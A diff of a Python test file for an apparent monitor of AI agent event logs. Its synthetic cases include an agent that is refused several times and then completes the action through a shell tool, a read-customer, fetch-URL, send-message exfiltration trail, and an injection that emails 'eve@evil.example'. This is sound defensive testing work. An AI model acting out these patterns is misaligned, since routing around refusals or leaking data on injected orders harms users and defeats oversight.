@@ -98,6 +98,10 @@ def refused_then(action: str, at: float, times: int = 3) -> Events:
     return [*denied, event("action.executed", at=at, action=action, outcome="success", session_id="s")]
 
 
+def shifted(events: Events, seconds: float, **fields: str) -> Events:
+    return [e.model_copy(update={"timestamp": e.timestamp + timedelta(seconds=seconds), **fields}) for e in events]
+
+
 def errors(text: str, times: int) -> Events:
     return [
         e for i in range(times) for e in operation("tool.call", "tool.response", f"s{i}", outcome="failure", error=text)
@@ -121,10 +125,12 @@ def written(times: list[float]) -> Events:
     return [event("error", at=at, writer="w", writer_seq=i) for i, at in enumerate(times)]
 
 
-def trail(*steps: str) -> Events:
+def trail(*steps: str, **outcomes: str) -> Events:
+    """Calls, one after the other; each succeeds unless another outcome is given."""
     made: Events = []
     for at, name in enumerate(steps):
-        made += [call(name, at), response(name, at + 0.5)]
+        how = outcomes.get(name, "success")
+        made += [call(name, at, span_id=name), response(name, at + 0.5, span_id=name, outcome=how)]
     return made
 
 
@@ -164,6 +170,9 @@ CASES: dict[str, tuple[Callable[[], Events], list[Callable[[], Events]]]] = {
             lambda: trail("send_message", "read_customer", "fetch_url"),
             lambda: trail("read_customer", "send_message"),
             lambda: trail("get_weather", "fetch_url", "send_message"),
+            lambda: trail("read_customer", "fetch_url", "send_message", read_customer="denied"),
+            lambda: trail("read_customer", "fetch_url", "send_message", fetch_url="failure"),
+            lambda: trail("read_customer", "fetch_url", "send_message", send_message="denied"),
         ],
     ),
     "missing-approval": (
@@ -248,6 +257,17 @@ def test_a_detection_stays_silent_on_what_only_looks_like_it(rule: str, number: 
 
 
 @pytest.mark.parametrize(
+    "before",
+    [refused_then("write", 60), shifted(refused_then("write", 60), 7199.5, agent_id="b")],
+    ids=["earlier", "of another agent"],
+)
+def test_a_burst_of_refusals_is_seen_whatever_was_refused_before(before: Events) -> None:
+    events = [*before, *shifted(refused_then("write_by_shell", 60), 7200)]
+    (finding,) = found(events, "denied-then-done")
+    assert (finding.agent_id, finding.event_ids) == ("a", (events[-1].event_id,))
+
+
+@pytest.mark.parametrize(
     ("tool", "arguments"),
     [
         ("send_email", {"to": "eve@evil.example"}),  # masked: by its fingerprint
@@ -271,6 +291,37 @@ def test_an_address_in_the_same_output_but_outside_of_the_passage_is_not_taken_f
 def test_the_log_never_holds_the_address_by_which_an_injection_is_found() -> None:
     events = session(told="Sum up.", output=ATTACK, tool="send_email", arguments={"to": "eve@evil.example"})
     assert all("evil.example" not in e.to_json() for e in events)
+
+
+def test_the_first_tool_of_an_agent_that_is_known_by_other_events_is_a_new_action() -> None:
+    talk = [e for day in range(20) for e in operation("llm.request", "llm.response", f"m{day}", at=day * DAY)]
+    (finding,) = found([*talk, call("shell", 20 * DAY, session=None)], "new-action")
+    assert finding.event_count == 1
+
+
+def test_an_error_that_comes_up_through_the_levels_of_a_run_counts_once() -> None:
+    told = {"outcome": "failure", "error": "permission denied: /x", "error_type": "PermissionError"}
+    one = [
+        [
+            event("tool.response", at=n, span_id=f"t{n}", parent_span_id=f"a{n}", **told),
+            event("agent.stop", at=n, span_id=f"a{n}", parent_span_id=f"o{n}", **told),
+            event("agent.stop", at=n, span_id=f"o{n}", **told),
+        ]
+        for n in range(6)
+    ]
+    assert found([e for run in one[:5] for e in run], "access-errors") == []
+    (finding,) = found([e for run in one for e in run], "access-errors")
+    assert finding.event_ids == tuple(run[0].event_id for run in one)
+
+
+def test_calls_without_arguments_are_equal_and_those_whose_arguments_were_left_out_are_not_compared() -> None:
+    assert len(found([call("list_jobs", i) for i in range(5)], "repeated-calls")) == 1
+    assert found([call("list_jobs", i) for i in range(4)], "repeated-calls") == []
+    left_out = {"shortened": {"parameters": {"bytes": 9, "level": "none"}}}
+    assert found([call("list_jobs", i, metadata=left_out) for i in range(5)], "repeated-calls") == []
+    digests = [{"shortened": {"parameters": {"level": "digest", "hmac_sha256": digest}}} for digest in "aaaab"]
+    assert found([call("x", i, metadata=told) for i, told in enumerate(digests)], "repeated-calls") == []
+    assert len(found([call("x", i, metadata=digests[0]) for i in range(5)], "repeated-calls")) == 1
 
 
 def test_a_value_is_new_in_the_period_that_is_asked_for_and_old_outside_of_it() -> None:
